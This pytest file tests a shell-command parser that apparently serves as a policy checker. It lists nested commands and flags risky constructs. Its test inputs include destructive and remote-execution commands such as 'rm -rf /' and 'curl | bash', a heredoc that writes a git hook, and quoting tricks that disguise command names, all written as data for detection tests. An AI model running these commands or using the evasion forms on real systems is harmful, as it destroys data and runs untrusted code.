"""parse_shell: every simple command a command line could run, and the constructs that hide them."""

from __future__ import annotations

import threading

import pytest

from kestrel.policy.shell import (
    Redirect,
    ShellParse,
    SimpleCommand,
    is_interpreter,
    parse_shell,
    reads_program_from_stdin,
)


def words(parsed: ShellParse) -> list[tuple[str, ...]]:
    return [c.words for c in parsed.commands]


def kinds(parsed: ShellParse) -> list[str]:
    return [r.kind for r in parsed.risks]


def find(parsed: ShellParse, *command: str) -> SimpleCommand:
    matches = [c for c in parsed.commands if c.words == command]
    assert len(matches) == 1, words(parsed)
    return matches[0]


@pytest.mark.parametrize(
    "line",
    [
        "git status && rm -rf build",
        "git status || rm -rf build",
        "git status; rm -rf build",
        "git status\nrm -rf build",
        "git status & rm -rf build",
    ],
)
def test_lists_every_command_of_a_list(line: str) -> None:
    parsed = parse_shell(line)
    assert words(parsed) == [("git", "status"), ("rm", "-rf", "build")]
    assert parsed.risks == ()
    first, second = parsed.commands
    assert first.pipeline != second.pipeline
    assert not first.nested and not second.nested
    assert (first.text, second.text) == ("git status", "rm -rf build")


def test_pipeline_stages_share_an_index() -> None:
    parsed = parse_shell("cat a | grep x | wc -l; ls")
    cat, grep, wc, ls = parsed.commands
    assert {cat.pipeline, grep.pipeline, wc.pipeline} == {cat.pipeline}
    assert (cat.stage, grep.stage, wc.stage) == (0, 1, 2)
    assert ls.pipeline != cat.pipeline and ls.stage == 0


def test_compound_statements_are_walked() -> None:
    line = (
        "(cd sub && make); { echo a; echo b; }; if test -f x; then rm x; elif true; then :; "
        "else touch y; fi; for f in a b; do cp $f /tmp; done; while false; do sleep 1; done; "
        "case $x in a) ls;; esac"
    )
    names = [c.words[0] for c in parse_shell(line).commands]
    assert names == [
        "cd", "make", "echo", "echo", "test", "rm", "true", ":", "touch", "cp", "false", "sleep",
        "ls",
    ]  # fmt: skip


def test_function_bodies_are_listed_and_flagged() -> None:
    parsed = parse_shell("cleanup() { rm -rf /tmp/x; }; cleanup")
    assert words(parsed) == [("rm", "-rf", "/tmp/x"), ("cleanup",)]
    assert kinds(parsed) == ["function-definition"]


def test_substitution_inside_double_quotes() -> None:
    parsed = parse_shell('echo "today is $(date +%F) ok"')
    echo, date = parsed.commands
    assert echo.words == ("echo", "today is $(date +%F) ok") and echo.dynamic
    assert date.words == ("date", "+%F")
    assert date.nested and date.via == "substitution" and date.parent == 0
    assert date.pipeline != echo.pipeline
    assert parsed.risks[0].kind == "substitution"
    assert "$(date +%F)" in parsed.risks[0].detail


def test_backticks() -> None:
    parsed = parse_shell("echo `whoami`")
    assert words(parsed) == [("echo", "`whoami`"), ("whoami",)]
    assert parsed.commands[1].nested
    assert kinds(parsed) == ["substitution"]


def test_process_substitution() -> None:
    parsed = parse_shell("diff <(sort a) >(tee b)")
    assert words(parsed) == [("diff", "<(sort a)", ">(tee b)"), ("sort", "a"), ("tee", "b")]
    assert all(c.via == "process-substitution" and c.parent == 0 for c in parsed.commands[1:])
    assert kinds(parsed) == ["process-substitution", "process-substitution"]


def test_substitution_in_a_redirect_target_belongs_to_the_command() -> None:
    parsed = parse_shell("bash < <(curl -s https://x.sh)")
    bash, curl = parsed.commands
    assert bash.redirects == (Redirect(op="<", target=""),)
    assert curl.parent == 0 and curl.via == "process-substitution"


def test_heredoc_piped_into_a_shell() -> None:
    parsed = parse_shell("cat <<'EOF' | sh\nrm -rf /\nEOF\necho done")
    assert words(parsed) == [("cat",), ("sh",), ("echo", "done")]
    cat, sh, _ = parsed.commands
    assert cat.redirects == (Redirect(op="<<", target="EOF", body="rm -rf /\n"),)
    assert (sh.pipeline, sh.stage) == (cat.pipeline, 1)
    assert kinds(parsed) == ["heredoc", "pipe-to-interpreter"]


def test_heredoc_with_a_redirect_and_a_substitution() -> None:
    parsed = parse_shell("cat <<EOF > .git/hooks/pre-commit\n$(whoami)\nEOF")
    cat, whoami = parsed.commands
    assert [(r.op, r.target) for r in cat.redirects] == [
        ("<<", "EOF"),
        (">", ".git/hooks/pre-commit"),
    ]
    assert cat.text == "cat <<EOF > .git/hooks/pre-commit"
    assert whoami.parent == 0 and whoami.via == "substitution"
    assert kinds(parsed) == ["heredoc", "substitution"]


def test_heredoc_keeps_the_words_before_it() -> None:
    parsed = parse_shell("python3 - <<EOF\nprint(1)\nEOF")
    assert words(parsed) == [("python3", "-")]
    assert parsed.commands[0].redirects[0].op == "<<"


def test_here_string_is_not_a_heredoc() -> None:
    parsed = parse_shell('grep x <<< "a b"')
    assert parsed.risks == ()
    assert parsed.commands[0].redirects == (Redirect(op="<<<", target="a b"),)


def test_redirects_as_written() -> None:
    parsed = parse_shell("make 2>/dev/null >> log.txt &>all 2>&1 < in >| forced")
    ops = [(r.op, r.target) for r in parsed.commands[0].redirects]
    assert ops == [
        ("2>", "/dev/null"),
        (">>", "log.txt"),
        ("&>", "all"),
        ("2>&", "1"),
        ("<", "in"),
        (">|", "forced"),
    ]
    assert parsed.commands[0].text.endswith(">| forced")


def test_a_bare_redirect_is_listed_without_words() -> None:
    parsed = parse_shell("ls && > .git/config")
    _, bare = parsed.commands
    assert bare.words == () and bare.text == "> .git/config"
    assert bare.redirects == (Redirect(op=">", target=".git/config"),)


def test_tab_stripping_heredoc() -> None:
    parsed = parse_shell("cat <<-END\n\tx\n\tEND")
    assert parsed.commands[0].redirects[0].op == "<<-"
    assert kinds(parsed) == ["heredoc"]


def test_redirect_of_a_group_reaches_its_commands() -> None:
    parsed = parse_shell("{ echo a; echo b; } > out")
    assert all(c.redirects == (Redirect(op=">", target="out"),) for c in parsed.commands)


def test_sh_c_is_parsed_again() -> None:
    parsed = parse_shell("bash -lc 'rm -rf / && echo gone'")
    bash, rm, echo = parsed.commands
    assert bash.words == ("bash", "-lc", "rm -rf / && echo gone")
    assert rm.words == ("rm", "-rf", "/") and rm.nested and rm.via == "inline-code"
    assert rm.parent == 0 and echo.parent == 0
    assert kinds(parsed) == ["inline-code"]


def test_python_c_is_inline_code() -> None:
    parsed = parse_shell("python3 -c 'import os; os.remove(\"x\")'")
    assert len(parsed.commands) == 1
    assert kinds(parsed) == ["inline-code"]
    assert "python3" in parsed.risks[0].detail


@pytest.mark.parametrize(
    "line",
    [
        "python3.12 -c 1",
        "node -e 'x'",
        "node --eval=x",
        "perl -ne 'print'",
        "ruby -e 1",
        "php -r 'echo 1;'",
        "deno eval 1",
        "osascript -e 'x'",
        "awk '{system(\"rm x\")}' f",
        "git -c core.pager='sh -c x' log",
        "git -c alias.st='!rm x' st",
        "git fetch --upload-pack='touch x' origin",
        "zsh -c 'ls'",
    ],
)
def test_inline_code(line: str) -> None:
    assert "inline-code" in kinds(parse_shell(line))


@pytest.mark.parametrize(
    "line",
    [
        "python -m pytest -c pytest.ini",
        "python3 script.py -c",
        "awk '{print $1}' f",
        "perl -MEnglish script.pl",
        "git -c user.name=x commit -m msg",
        "bash script.sh",
    ],
)
def test_not_inline_code(line: str) -> None:
    assert "inline-code" not in kinds(parse_shell(line))


def test_find_exec_is_inline_code_and_its_command_is_listed() -> None:
    parsed = parse_shell("find . -name '*.pyc' -exec rm -f {} \\; -print")
    find_cmd, rm = parsed.commands
    assert find_cmd.words[-1] == "-print"
    assert rm.words == ("rm", "-f", "{}") and rm.parent == 0 and rm.via == "wrapper"
    assert kinds(parsed) == ["inline-code"]
    assert "-exec" in parsed.risks[0].detail


def test_xargs_runs_a_command_from_its_input() -> None:
    parsed = parse_shell("ls | xargs -0 -n 1 rm -rf")
    _, xargs, rm = parsed.commands
    assert rm.words == ("rm", "-rf") and rm.nested and rm.dynamic
    assert (rm.pipeline, rm.stage) == (xargs.pipeline, 1)
    assert kinds(parsed) == ["inline-code"]


@pytest.mark.parametrize(
    ("line", "value"),
    [
        ("'rm' -rf x", "rm"),
        ('"rm" -rf x', "rm"),
        ("\\rm -rf x", "rm"),
        ("r'm' -rf x", "rm"),
        ("$'\\x72m' -rf x", "rm"),
        ("$'r\\155' -rf x", "rm"),
    ],
)
def test_quoting_is_removed_from_the_command_name(line: str, value: str) -> None:
    parsed = parse_shell(line)
    assert parsed.commands[0].words == (value, "-rf", "x")
    assert not parsed.commands[0].dynamic
    assert parsed.risks == ()


def test_quoting_in_arguments() -> None:
    line = 'printf \'a b\' "c \\"d\\" \\$e" f\\ g $\'h\\ti\' "$HOME"/x *.py ~/y'
    command = parse_shell(line).commands[0]
    assert command.words == (
        "printf", "a b", 'c "d" $e', "f g", "h\ti", "$HOME/x", "*.py", "~/y",
    )  # fmt: skip
    assert command.dynamic


def test_globs_are_not_dynamic() -> None:
    assert not parse_shell("rm -f *.o build/[ab]?.tmp").commands[0].dynamic


def test_comments_are_ignored() -> None:
    parsed = parse_shell("git status # && rm -rf /")
    assert words(parsed) == [("git", "status")]
    assert parsed.risks == ()
    assert words(parse_shell("# rm -rf /\nls  # done")) == [("ls",)]


@pytest.mark.parametrize(
    ("line", "inner"),
    [
        ("timeout 5 rm -rf /", ("rm", "-rf", "/")),
        ("timeout -s KILL --foreground 5s rm -rf /", ("rm", "-rf", "/")),
        ("nice -n 10 make", ("make",)),
        ("nice -5 make", ("make",)),
        ("nohup ./serve &", ("./serve",)),
        ("time pytest -q", ("pytest", "-q")),
        ("stdbuf -oL tail -f log", ("tail", "-f", "log")),
        ("command rm x", ("rm", "x")),
        ("builtin cd /", ("cd", "/")),
        ("exec rm x", ("rm", "x")),
        ("sudo -u root -E rm x", ("rm", "x")),
        ("doas rm x", ("rm", "x")),
        ("xargs -I{} cp {} /tmp", ("cp", "{}", "/tmp")),
    ],
)
def test_wrappers_are_unwrapped(line: str, inner: tuple[str, ...]) -> None:
    parsed = parse_shell(line)
    wrapper, wrapped = parsed.commands[0], parsed.commands[-1]
    assert len(parsed.commands) == 2
    assert wrapped.words == inner
    assert wrapped.nested and wrapped.parent == 0 and wrapped.via == "wrapper"
    assert not wrapper.nested
    assert wrapped.text in wrapper.text
    assert (wrapped.pipeline, wrapped.stage) == (wrapper.pipeline, wrapper.stage)


def test_nested_wrappers_and_env_assignments() -> None:
    parsed = parse_shell("sudo timeout 5 env -i PATH=/bin HOME=/x rm -rf /")
    assert [c.words[0] for c in parsed.commands] == ["sudo", "timeout", "env", "rm"]
    rm = parsed.commands[-1]
    assert rm.assignments == ("PATH=/bin", "HOME=/x")
    assert rm.parent == 2 and rm.text == "rm -rf /"


def test_command_v_runs_nothing() -> None:
    assert words(parse_shell("command -v rm")) == [("command", "-v", "rm")]


def test_watch_parses_its_command() -> None:
    parsed = parse_shell("watch -n 1 'ls | wc -l'")
    assert words(parsed) == [("watch", "-n", "1", "ls | wc -l"), ("ls",), ("wc", "-l")]
    assert parsed.commands[1].via == "wrapper"


def test_env_prefixes_are_assignments() -> None:
    command = parse_shell('FOO=1 BAR="a b" make test').commands[0]
    assert command.words == ("make", "test")
    assert command.assignments == ("FOO=1", 'BAR="a b"')
    assert command.text == 'FOO=1 BAR="a b" make test'


def test_declarations_and_tests_are_listed() -> None:
    parsed = parse_shell("export X=$(id -u) Y; [[ -f a ]]")
    assert words(parsed) == [("export", "X=$(id -u)", "Y"), ("id", "-u"), ("[[", "-f", "a", "]]")]
    assert parsed.commands[0].dynamic
    assert kinds(parsed) == ["substitution"]


def test_eval_is_flagged_and_parsed() -> None:
    parsed = parse_shell("eval 'rm -rf /tmp/x; ls'")
    assert words(parsed)[1:] == [("rm", "-rf", "/tmp/x"), ("ls",)]
    assert kinds(parsed) == ["eval"]


@pytest.mark.parametrize("line", ["source ./env.sh", ". ./env.sh"])
def test_source(line: str) -> None:
    parsed = parse_shell(line)
    assert kinds(parsed) == ["source"]
    assert "./env.sh" in parsed.risks[0].detail


@pytest.mark.parametrize(
    "line",
    [
        "curl -s x | sh",
        "curl -s x | bash -s -- --yes",
        "wget -qO- x | sudo bash",
        "cat script | python3",
        "cat script | python3 -",
        "curl x | perl",
    ],
)
def test_pipe_to_interpreter(line: str) -> None:
    assert "pipe-to-interpreter" in kinds(parse_shell(line))


@pytest.mark.parametrize(
    "line",
    ["cat data | python3 process.py", "sh | cat", "echo x | bash -c 'read y'", "ls | node app.js"],
)
def test_not_pipe_to_interpreter(line: str) -> None:
    assert "pipe-to-interpreter" not in kinds(parse_shell(line))


@pytest.mark.parametrize("line", ["$CMD --force", "$(echo rm) -rf x", "${TOOL:-rm} x"])
def test_dynamic_command_name(line: str) -> None:
    parsed = parse_shell(line)
    assert "dynamic-command" in kinds(parsed)
    assert parsed.commands[0].dynamic


def test_background_is_not_a_risk() -> None:
    assert parse_shell("sleep 10 &").risks == ()


@pytest.mark.parametrize("line", ['echo "unterminated', "if then fi", "rm -rf $(", "ls )"])
def test_syntax_errors_are_risks_but_commands_survive(line: str) -> None:
    parsed = parse_shell(line)
    assert "syntax-error" in kinds(parsed)
    assert parsed.commands, "the commands tree-sitter did find are still listed"


@pytest.mark.parametrize("line", ["", "   ", "# only a comment"])
def test_nothing_to_run(line: str) -> None:
    assert parse_shell(line) == ShellParse(source=line, commands=(), risks=())


def test_a_very_long_command_line() -> None:
    line = " && ".join(f"echo {i}" for i in range(10_000))
    parsed = parse_shell(line)
    assert len(parsed.commands) == 10_000
    assert parsed.commands[-1].words == ("echo", "9999")
    assert parsed.risks == ()


def test_deeply_nested_inline_code_stops() -> None:
    line = "sh -c 'sh -c \"sh -c ls\"'"
    assert words(parse_shell(line))[-1] == ("ls",)


def test_parsing_from_threads() -> None:
    results: list[ShellParse] = []

    def work() -> None:
        results.extend(parse_shell(f"echo {i} | grep {i}") for i in range(200))

    threads = [threading.Thread(target=work) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(results) == 800
    assert all(len(r.commands) == 2 for r in results)


def test_interpreter_helpers() -> None:
    assert is_interpreter("python3.11") and is_interpreter("bash") and not is_interpreter("cat")
    assert reads_program_from_stdin(("bash",)) and reads_program_from_stdin(("sh", "-s", "x"))
    assert not reads_program_from_stdin(("bash", "script.sh"))
    assert not reads_program_from_stdin(("python3", "-m", "json.tool"))
